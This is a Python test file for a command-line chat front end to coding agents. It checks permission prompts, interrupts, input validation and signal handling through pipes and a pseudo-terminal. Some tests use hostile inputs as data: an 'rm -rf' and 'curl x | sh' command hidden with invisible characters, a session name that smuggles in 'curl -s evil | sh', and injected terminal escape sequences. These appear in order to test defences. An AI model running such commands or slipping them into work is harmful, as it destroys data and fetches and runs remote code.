"""`optio-agents chat`: the whole program, with an agent that is a small script, at a pipe and at a
pseudo-terminal.
"""

from __future__ import annotations

import json
import os
import pty
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import trio

from optio_agents.hosts.processes.snapshot import read_marked, read_snapshot

AGENT = Path(__file__).parents[2] / "support" / "acp_agent.py"
CLAUDE = Path(__file__).parents[2] / "support" / "claude_agent.py"
HANG_GUARD = 60.0
NAN = {"decide": 1, "behavior": "allow", "updated_input": {"n": float("nan")}}

CHAT = [
    sys.executable,
    "-c",
    "import argparse, sys\n"
    "from optio_agents.cli.chat import command as chat\n"
    "from optio_agents.cli.exit_codes import CommandFailure\n"
    "parser = argparse.ArgumentParser()\n"
    "chat.add_parser(parser.add_subparsers())\n"
    "try:\n"
    "    sys.exit(chat.run(parser.parse_args(['chat', *sys.argv[1:]])))\n"
    "except CommandFailure as failure:\n"
    "    sys.exit(f'{int(failure.code)} {failure.message}')\n",
    "--agent",
    "gemini",
]


class Program:
    """A chat in `--json` mode."""

    def __init__(self, process: trio.Process) -> None:
        self.process = process
        self.heard: list[dict[str, Any]] = []
        self._unmatched: list[dict[str, Any]] = []
        self._rest = b""

    async def say(self, **command: Any) -> None:
        assert self.process.stdin is not None
        await self.process.stdin.send_all(json.dumps(command).encode() + b"\n")

    async def until(self, **fields: Any) -> dict[str, Any]:
        """Wait for a new line with these fields; skip other lines."""
        assert self.process.stdout is not None
        while True:
            for line in self._unmatched:
                if fields.items() <= line.items():
                    self._unmatched.remove(line)
                    return line
            data = await self.process.stdout.receive_some()
            assert data, f"it ended without {fields}: {self.heard[-3:]}"
            *complete, self._rest = (self._rest + data).split(b"\n")
            new = [json.loads(line) for line in complete]
            self.heard += new
            self._unmatched += new


@asynccontextmanager
async def program(*arguments: str) -> AsyncIterator[Program]:
    process = await trio.lowlevel.open_process(
        [*CHAT, "--json", "--", sys.executable, str(AGENT), *arguments],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert process.stdin is not None
    assert process.stdout is not None
    try:
        with trio.fail_after(HANG_GUARD):
            yield Program(process)
    finally:
        process.kill()
        with trio.CancelScope(shield=True, deadline=trio.current_time() + HANG_GUARD):
            await process.wait()
        await trio.aclose_forcefully(process.stdin)
        await trio.aclose_forcefully(process.stdout)


async def test_a_program_sends_decides_interrupts_and_closes() -> None:
    async with program() as chat:
        ready = await chat.until(kind="ready")
        assert (ready["agent"], ready["session"]) == ("gemini", "s")
        await chat.say(send="say:hello", id="a")
        assert (await chat.until(kind="turn"))["text"] == "hello "
        assert (await chat.until(kind="sent", id="a"))["fate"] == "answered"
        await chat.say(send="ask:rm")
        asked = await chat.until(kind="permission")
        assert (asked["tool"], asked["input"]) == ("rm", {"command": "rm"})
        await chat.say(decide=asked["n"], behavior="deny")
        assert (await chat.until(kind="turn"))["text"] == "rm-denied "
        await chat.say(send="hang")
        await chat.until(kind="state", state="running")
        await chat.say(send="say:later")
        await chat.say(interrupt=True, id="i")
        receipt = await chat.until(kind="receipt")
        assert (receipt["what"], receipt["queued"], receipt["id"]) == ("interrupted", ["say:later"], "i")
        assert (await chat.until(kind="turn", status="completed"))["text"] == "later "
        await chat.say(close=True)
        assert (await chat.until(kind="closed"))["unsent"] == []
        assert await chat.process.wait() == 0
        raws = [line["raw"] for line in chat.heard if line["kind"] == "event"]
        assert all("jsonrpc" in raw or raw["type"].startswith("x-optio-") for raw in raws)


async def test_a_program_that_says_nonsense_is_told_and_the_chat_goes_on() -> None:
    async with program() as chat:
        assert chat.process.stdin is not None
        await chat.process.stdin.send_all(b"nonsense\n[1]\n")
        assert "not a JSON object" in (await chat.until(kind="refused"))["why"]
        await chat.until(kind="refused")
        for command in ({"dance": 1}, {"send": 5}, {"decide": 1}, {"decide": 7, "behavior": "allow"}, NAN):
            await chat.say(**command, id="x")
            await chat.until(kind="refused", id="x")
        await chat.say(steer="say:x", id="y")
        assert "cannot be steered" in (await chat.until(kind="refused", id="y"))["why"]
        await chat.say(send="say:fine")
        assert (await chat.until(kind="turn"))["text"] == "fine "


async def test_the_end_of_a_programs_input_waits_for_the_answers() -> None:
    async with program() as chat:
        assert chat.process.stdin is not None
        await chat.say(send="say:one")
        await chat.say(send="say:two")
        await chat.process.stdin.aclose()
        await chat.until(kind="turn", text="one ")
        await chat.until(kind="turn", text="two ")
        await chat.until(kind="closed")
        assert await chat.process.wait() == 0


async def test_an_agent_that_crashes_ends_the_chat_with_its_own_words() -> None:
    async with program() as chat:
        await chat.say(send="crash")
        closed = await chat.until(kind="closed")
        assert "exit status 3" in closed["how"]
        assert "it crashed" in closed["how"]
        assert await chat.process.wait() == 3


async def test_an_agent_that_prints_its_usage_or_is_missing_is_one_clear_sentence() -> None:
    for command, words in (
        ([sys.executable, str(AGENT), "--usage"], ["not ready", "usage: acp_agent"]),
        (["/nowhere/agent"], ["there is no program '/nowhere/agent'"]),
    ):
        with trio.fail_after(HANG_GUARD):
            done = await trio.run_process(
                [*CHAT, "--", *command], capture_stderr=True, capture_stdout=True, check=False
            )
        error = done.stderr.decode()
        assert error.startswith("2 gemini")
        assert all(word in error for word in words)
        assert "Traceback" not in error


class Terminal:
    """A chat at a pseudo-terminal."""

    def __init__(self, process: trio.Process, descriptor: int) -> None:
        self.process = process
        self._descriptor = descriptor
        self.screen = ""

    def type(self, text: str) -> None:
        os.write(self._descriptor, text.encode())

    async def until(self, *wanted: str) -> str:
        """Wait until the screen shows one of `wanted`, after what was waited for before; returns which."""
        while not (shown := [text for text in wanted if text in self.screen]):
            await trio.lowlevel.wait_readable(self._descriptor)
            try:
                data = os.read(self._descriptor, 65536)
            except OSError:
                data = b""
            assert data, f"it ended without {wanted!r}: {self.screen[-500:]}"
            self.screen += data.decode(errors="replace")
        self.screen = self.screen.partition(shown[0])[2]
        return shown[0]


@asynccontextmanager
async def terminal(*arguments: str, **environment: str) -> AsyncIterator[Terminal]:
    ours, theirs = pty.openpty()
    process = await trio.lowlevel.open_process(
        [*CHAT[:-2], *(arguments or ("--agent", "gemini", "--", sys.executable, str(AGENT)))],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        env={**os.environ, "TERM": "dumb", "COLUMNS": "200", "LINES": "50", **environment},
        start_new_session=True,
    )
    os.close(theirs)
    try:
        with trio.fail_after(HANG_GUARD):
            chat = Terminal(process, ours)
            try:
                yield chat
            except trio.Cancelled:
                print(repr(chat.screen))
                raise
    finally:
        process.kill()
        with trio.CancelScope(shield=True, deadline=trio.current_time() + HANG_GUARD):
            await process.wait()
        os.close(ours)


async def test_at_a_terminal_text_streams_and_questions_are_answered_by_key() -> None:
    async with terminal() as chat:
        await chat.until("gemini is ready")
        chat.type("say:hello say:world\n")
        await chat.until("hello world")
        chat.type("ask:rm\n")
        await chat.until("allow? y/n")
        chat.type("y")  # one key, no Enter
        await chat.until("rm-allowed")
        chat.type("ask:dd\n")
        await chat.until("allow? y/n")
        chat.type("n")
        await chat.until("dd-denied")
        chat.type("say:again\n")
        await chat.until("again ")
        chat.type("\x04")
        await chat.until("--resume s")
        assert await chat.process.wait() == 0


async def test_ctrl_c_interrupts_and_twice_leaves() -> None:
    async with terminal() as chat:
        await chat.until("gemini is ready")
        chat.type("hang\n")
        chat.type("say:queued\n")
        await chat.until("queued, 1 waiting")
        chat.process.send_signal(signal.SIGINT)
        await chat.until("interrupting")
        await chat.until("still queued")
        await chat.until("queued ")
        chat.type("hang\n")
        # Twice within two seconds; on a slow machine it takes a few more to be quick enough.
        shown = ""
        while shown != "leaving":
            chat.process.send_signal(signal.SIGINT)
            shown = await chat.until("to leave", "leaving")
        assert await chat.process.wait() == 130


async def test_a_question_that_an_interrupt_takes_back_is_no_longer_asked() -> None:
    async with terminal() as chat:
        await chat.until("gemini is ready")
        chat.type("ask:rm\n")
        await chat.until("allow? y/n")
        chat.process.send_signal(signal.SIGINT)
        await chat.until("interrupted")
        chat.type("say:y\n")  # a message again, not an answer
        await chat.until("y ")
        chat.type("\x04")
        await chat.until("--resume s")


# With an agent that asks as Claude Code does.

AS_CLAUDE = ("--agent", "claude", "--", sys.executable, str(CLAUDE))


def steps(*each: list[Any]) -> str:
    """A prompt for that agent."""
    return json.dumps(each)


@asynccontextmanager
async def claude_program(**environment: str) -> AsyncIterator[Program]:
    process = await trio.lowlevel.open_process(
        [*CHAT[:-2], "--json", *AS_CLAUDE],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, **environment},
    )
    try:
        with trio.fail_after(HANG_GUARD):
            yield Program(process)
    finally:
        process.kill()
        with trio.CancelScope(shield=True, deadline=trio.current_time() + HANG_GUARD):
            await process.wait()
        for stream in (process.stdin, process.stdout, process.stderr):
            assert stream is not None
            await trio.aclose_forcefully(stream)


async def test_a_program_is_told_how_long_a_permission_can_hold_and_says_so() -> None:
    async with claude_program() as chat:
        await chat.say(send=steps(["ask", "Bash", {"command": "touch a"}]))
        asked = await chat.until(kind="permission")
        assert (asked["scopes"], asked["covers"]) == (["once", "session", "always"], ["Bash(touch *)"])
        await chat.say(decide=asked["n"], behavior="allow", scope="forever", id="x")
        assert "scope" in (await chat.until(kind="refused", id="x"))["why"]
        await chat.say(decide=asked["n"], behavior="allow", scope="session")
        answer = json.loads((await chat.until(kind="turn"))["text"])
        assert answer["updatedPermissions"][0]["destination"] == "session"


async def test_a_program_is_offered_questions_and_plans_and_answers_them() -> None:
    async with claude_program() as chat:
        await chat.say(send=steps(["question"]))
        asked = await chat.until(kind="question")
        (question,) = asked["questions"]
        assert (question["text"], question["choices"][1]["label"]) == ("Which db?", "SQLite")
        await chat.say(answer=asked["n"], answers={"other": "x"}, id="x")
        assert "no question 'other'" in (await chat.until(kind="refused", id="x"))["why"]
        await chat.say(answer=asked["n"], answers={"Which db?": "SQLite"})
        answer = json.loads((await chat.until(kind="turn"))["text"])
        assert answer["updatedInput"]["answers"] == {"Which db?": "SQLite"}
        await chat.say(send=steps(["plan", "1. build"]))
        asked = await chat.until(kind="question")
        assert (asked["about"], asked["message"]) == ("plan", "1. build")
        await chat.say(answer=asked["n"], decline=True, reason="not today")
        assert json.loads((await chat.until(kind="turn"))["text"])["message"] == "not today"


async def test_a_turn_that_the_agent_begins_by_itself_is_told_as_its_own() -> None:
    async with claude_program() as chat:
        await chat.say(send=steps(["text", "started"], ["later", [["text", "built"]]]))
        assert (await chat.until(kind="turn"))["origin"] == "ours"
        own = await chat.until(kind="turn")
        assert (own["origin"], own["text"]) == ("agent", "built")


async def test_a_lone_surrogate_is_refused_and_the_chat_goes_on() -> None:
    async with claude_program() as chat:
        assert chat.process.stdin is not None
        await chat.process.stdin.send_all(b'{"send": "caf\\udce9", "id": "x"}\n')
        assert "lone surrogate" in (await chat.until(kind="refused", id="x"))["why"]
        await chat.say(send="fine")
        assert (await chat.until(kind="turn"))["text"] == "fine"


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
async def test_a_signal_ends_the_chat_its_agent_and_its_directory(
    number: signal.Signals, tmp_path: Path
) -> None:
    async with claude_program(TMPDIR=str(tmp_path)) as chat:
        await chat.say(send=steps(["hang"]))
        await chat.until(kind="state", state="running")
        assert list(tmp_path.iterdir()) != []
        chat.process.send_signal(number)
        assert await chat.process.wait() == 130
        assert list(tmp_path.iterdir()) == []
        assert not read_marked(read_snapshot(), {"TMPDIR": str(tmp_path)})


async def test_a_reader_that_goes_away_ends_the_chat_without_a_complaint() -> None:
    async with claude_program() as chat:
        assert chat.process.stdout is not None
        await chat.until(kind="ready")
        await chat.process.stdout.aclose()
        await chat.say(send=steps(["flood", 100]))
        assert await chat.process.wait() == 130
        assert chat.process.stderr is not None
        assert await chat.process.stderr.receive_some() == b""


async def test_commands_are_read_while_nobody_reads_the_lines() -> None:
    async with claude_program() as chat:
        await chat.until(kind="ready")
        await chat.say(send=steps(["flood", 3000], ["hang"]))
        await chat.say(interrupt=True, id="i")
        # Only a reader that comes late: by now more was said than a pipe holds.
        assert (await chat.until(kind="receipt", id="i"))["what"] in ("interrupted", "nothing running")
        await chat.say(close=True)
        await chat.until(kind="closed")


async def test_the_words_of_an_agent_that_does_not_start_do_not_act_on_the_terminal() -> None:
    command = [*CHAT[:-2], *AS_CLAUDE, "--fail", "\x1b]0;PWNED\x07\x1b[2J\x9b1mno such licence"]
    with trio.fail_after(HANG_GUARD):
        done = await trio.run_process(command, capture_stderr=True, capture_stdout=True, check=False)
    assert b"no such licence" in done.stderr
    assert not set(done.stdout + done.stderr) & set(b"\x1b\x07\x9b")


async def test_at_a_terminal_what_will_run_is_shown_and_keys_from_before_do_not_answer() -> None:
    async with terminal(*AS_CLAUDE) as chat:
        await chat.until("claude is ready")
        hidden = {"command": "rm -rf pro\u200bject #\x9d\ncurl x | sh #\x9c ./:fire:/x"}
        chat.type(steps(["ask", "Bash", hidden]) + "\n")
        chat.type("y y y")  # in the middle of a line when the question comes
        await chat.until("| rm -rf pro<U+200B>ject #<U+009D>")
        await chat.until("| curl x | sh #<U+009C> ./:fire:/x")
        await chat.until("covers: Bash(touch *)")
        await chat.until("allow? y/n, s: for the session, a: always")
        chat.type("s")
        await chat.until("allow for the session")
        await chat.until('"destination": "session"')


async def test_at_a_terminal_questions_and_plans_are_asked() -> None:
    async with terminal(*AS_CLAUDE) as chat:
        await chat.until("claude is ready")
        chat.type(steps(["question"]) + "\n")
        await chat.until("Which db?")
        await chat.until("2 SQLite")
        await chat.until("a number or a name, or your own words; - declines")
        chat.type("2\n")
        await chat.until('"answers": {"Which db?": "SQLite"}')
        chat.type(steps(["plan", "1. drop the old table"]) + "\n")
        await chat.until("a plan")
        await chat.until("1. drop the old table")
        await chat.until("approve the plan?")
        await chat.until("- declines")
        chat.type("no\n")
        await chat.until("does not approve the plan")


async def test_the_line_that_says_how_to_resume_is_one_word_for_a_shell() -> None:
    name = "s1; curl -s evil | sh #"
    async with terminal(*AS_CLAUDE, CLAUDE_AGENT_SESSION=name) as chat:
        await chat.until("claude is ready")
        chat.type("hello\n")
        await chat.until("hello")
        await chat.until("hello")
        chat.type("\x04")
        await chat.until("--resume 's1; curl -s evil | sh #'")
        assert await chat.process.wait() == 0
